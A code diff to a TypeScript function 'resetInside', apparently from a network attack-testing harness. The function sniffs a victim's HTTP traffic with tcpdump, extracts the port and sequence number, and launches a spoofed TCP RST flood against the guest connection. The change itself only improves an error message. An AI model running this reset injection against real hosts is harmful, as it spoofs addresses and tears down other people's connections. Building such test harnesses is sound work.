@@ -37,8 +37,9 @@ const resetInside: Attack = async (victim, seconds, intervalUs) => {
   const pushed = "tcp[tcpflags] & tcp-push != 0";
   const filter = `src host ${guestsAddress} and dst port 80 and ${pushed}`;
   const show = ["tcpdump", "-nn", "-S", "-l", "-c", "100", "-i", victim.network.device, filter];
-  const seen = request.exec(await victim.run("timeout", "30", ...show));
-  if (!seen) throw new Error("no guest has asked anything");
+  const shown = await victim.run("timeout", "30", ...show);
+  const seen = request.exec(shown);
+  if (!seen) throw new Error(`no guest has asked anything:\n${shown}`);
   const [, port, end] = seen;
   const name = ["-R", "-a", guestsAddress, "-s", port!, "-k", "-p", "80"];
   return flood(...name, "-M", `${(Number(end) + 4000) % 2 ** 32}`)(victim, seconds, intervalUs);
